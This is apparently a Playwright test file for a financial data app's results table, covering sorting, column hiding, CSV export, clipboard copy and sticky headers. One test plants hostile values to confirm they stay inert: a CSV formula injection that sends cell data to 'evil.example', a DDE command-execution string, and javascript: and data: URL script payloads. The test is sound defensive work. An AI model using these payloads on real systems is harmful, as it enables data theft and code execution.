import { readFile } from 'node:fs/promises';
import { expect, test } from '@playwright/test';
import { parseRfc4180 } from '../testing/rfc4180.ts';
import { openJson, signIn } from './journey.ts';

test('an analyst sorts the rows, hides a column and downloads a CSV that matches the table', async ({
  page,
}) => {
  await page.goto('/login?redirect=%2Fq%2F13f_holdings%3Frun%3Dstarter');
  await signIn(page, 'analyst', 'analyst-demo');
  const table = page.getByRole('grid', { name: 'Results' });
  // Rows are virtualised: the table announces all 25 rows (+ header) while drawing those in view.
  await expect(table).toHaveAttribute('aria-rowcount', '26');

  // Sort here by the change, largest cut first: the header says so.
  const change = table.getByRole('columnheader', { name: 'Share change QoQ' });
  await change.getByRole('button').click();
  await expect(change).toHaveAttribute('aria-sort', 'descending');
  // The tick box, then issuer, ticker, value, weight, status: the change is the seventh cell.
  const firstChange = await table.getByRole('row').nth(1).getByRole('gridcell').nth(6).innerText();

  // Hide the CUSIP column.
  await page.getByRole('button', { name: 'Columns' }).click();
  await page.getByRole('checkbox', { name: 'CUSIP' }).uncheck();
  await page.keyboard.press('Escape');
  await expect(table.getByRole('columnheader', { name: 'CUSIP' })).toHaveCount(0);

  await page.getByRole('button', { name: 'Export', exact: true }).click();
  await page.getByRole('menuitemradio', { name: /values as sent/ }).click();
  const downloading = page.waitForEvent('download');
  await page.getByRole('menuitem', { name: /rows loaded/ }).click();
  const download = await downloading;
  // The file says whose and when it holds, as the starter is one filer in one quarter.
  expect(download.suggestedFilename()).toBe('berkshire-hathaway-inc-2025-03-31-13f.csv');
  const text = await readFile(await download.path(), 'utf8');
  expect(text.startsWith('\uFEFF')).toBe(true);
  const [header, ...records] = parseRfc4180(text.slice(1));
  // No row has a flag, so no flags column; then the filer and period the table leaves to the
  // query's chips.
  expect(header).toEqual([
    'companyname',
    'periodofreport',
    'nameofissuer',
    'ticker',
    'value',
    'portfolio_pct_weight',
    'status',
    'pct_change_qoq',
    'putcall',
    'shrsorprnamt',
  ]);
  expect(records).toHaveLength(25);
  expect(new Set(records.map((record) => `${record[0] ?? ''} ${record[1] ?? ''}`))).toEqual(
    new Set(['BERKSHIRE HATHAWAY INC 2025-03-31']),
  );
  // The rows come in the table's order, raw values: the first change is the table's first.
  const changes = records.map((record) => Number(record[7]));
  expect(changes).toEqual([...changes].sort((a, b) => b - a));
  expect(`${changes[0]?.toFixed(2) ?? ''}%`).toBe(firstChange.replace('+', ''));
});

test('planted hostile values stay text: no script link, and the CSV neutralises the formula', async ({
  page,
}) => {
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await page.goto('/login?redirect=%2Fq%2Fmanager_presentation__c');
  await signIn(page, 'analyst', 'analyst-demo');
  await (
    await openJson(page)
  ).fill(
    JSON.stringify({
      module: 'manager_presentation__c',
      filters: {
        fields: ['name', 'url'],
        filter: [{ $or: [{ url: { $contains: 'javascript' } }, { url: { $contains: 'data:' } }] }],
        order_by: 'name:ASC',
      },
    }),
  );
  await page.getByRole('button', { name: 'Run query' }).click();
  const table = page.getByRole('grid', { name: 'Results' });
  const script = table.getByRole('gridcell', { name: 'javascript:alert(document.domain)' });
  await expect(script).toBeVisible();
  await expect(table.getByRole('link')).toHaveCount(0);

  const url = page.url();
  await script.click();
  await page.keyboard.press('Escape');
  await expect(page).toHaveURL(url);
  expect(dialogs).toEqual([]);

  await page.getByRole('button', { name: 'Export', exact: true }).click();
  await page.getByRole('menuitemradio', { name: /values as sent/ }).click();
  const downloading = page.waitForEvent('download');
  await page.getByRole('menuitem', { name: /rows loaded/ }).click();
  const text = await readFile(await (await downloading).path(), 'utf8');
  const [header, ...records] = parseRfc4180(text.slice(1));
  expect(header).toEqual(['name', 'url']);
  expect(records.map((record) => record[0])).toEqual([
    '\'=HYPERLINK("https://evil.example/steal?d="&A1,"Q4 2025 Investor Letter")',
    "'@SUM(1+1)*cmd|' /C calc'!A0",
  ]);
  expect(records.map((record) => record[1])).toEqual([
    'javascript:alert(document.domain)',
    'data:text/html,<script>alert(1)</script>',
  ]);
});

test('"Copy table" puts the rows on screen, as shown and sorted, on the clipboard as TSV', async ({
  browser,
}) => {
  const context = await browser.newContext({ permissions: ['clipboard-read', 'clipboard-write'] });
  const page = await context.newPage();
  await page.goto(`/login?redirect=${encodeURIComponent('/q/13f_holdings?run=starter')}`);
  await signIn(page, 'analyst', 'analyst-demo');
  const table = page.getByRole('grid', { name: 'Results' });
  await expect(table).toHaveAttribute('aria-rowcount', '26');
  await table.getByRole('columnheader', { name: 'Ticker' }).getByRole('button').click();
  await page.getByRole('button', { name: 'Copy table' }).click();
  await expect(page.getByRole('button', { name: 'Copied' })).toBeVisible();
  const lines = (await page.evaluate(() => navigator.clipboard.readText()))
    .split('\r\n')
    .filter((line) => line !== '')
    .map((line) => line.split('\t'));
  expect(lines).toHaveLength(26);
  expect(lines[0]?.slice(0, 4)).toEqual(['Issuer', 'Ticker', 'Value (USD)', 'Portfolio weight']);
  // The first rows as the table shows them, sorted by ticker here.
  const shown = (await table.getByRole('row').allInnerTexts())
    .slice(1, 4)
    .map((row) => row.split('\t'));
  // Each row's first cell is its tick box, which copies nothing.
  expect(lines.slice(1, 4).map((line) => line.slice(0, 4))).toEqual(
    shown.map((row) => row.slice(1, 5)),
  );
  const tickers = lines.slice(1).map((line) => line[1] ?? '');
  expect(tickers).toEqual([...tickers].sort((a, b) => a.localeCompare(b)));

  // Rows 2 to 4 ticked (a click, then a Shift-click): only they are copied, in the table's order.
  await table.getByRole('checkbox', { name: 'Select row 2', exact: true }).click();
  await table
    .getByRole('checkbox', { name: 'Select row 4', exact: true })
    .click({ modifiers: ['Shift'] });
  await expect(table.getByRole('row', { selected: true })).toHaveCount(3);
  await page.getByRole('button', { name: 'Copy 3 selected' }).click();
  await expect(page.getByRole('button', { name: 'Copied' })).toBeVisible();
  const picked = (await page.evaluate(() => navigator.clipboard.readText()))
    .split('\r\n')
    .filter((line) => line !== '')
    .map((line) => line.split('\t')[1]);
  expect(picked).toEqual(['Ticker', ...tickers.slice(1, 4)]);
  await context.close();
});

test('scrolled, the header stays on top of the pinned first column', async ({ page }) => {
  await page.goto('/login?redirect=%2Fq%2Fmetro_area__c%3Frun%3Dstarter');
  await signIn(page, 'analyst', 'analyst-demo');
  const table = page.getByRole('grid', { name: 'Results' });
  await expect(table.getByRole('row').nth(5)).toBeVisible();
  const header = table.getByRole('columnheader', { name: 'Metro area' });
  await table.hover();
  await page.mouse.wheel(0, 400);
  await expect(table.locator('tbody tr[aria-rowindex="2"]')).toHaveCount(0);
  // What an analyst sees at the middle of that header: the header, not a row slid under it.
  const onTop = await header.evaluate((cell) => {
    const box = cell.getBoundingClientRect();
    const seen = document.elementFromPoint(box.x + box.width / 2, box.y + box.height / 2);
    return seen !== null && cell.contains(seen);
  });
  expect(onTop).toBe(true);
});
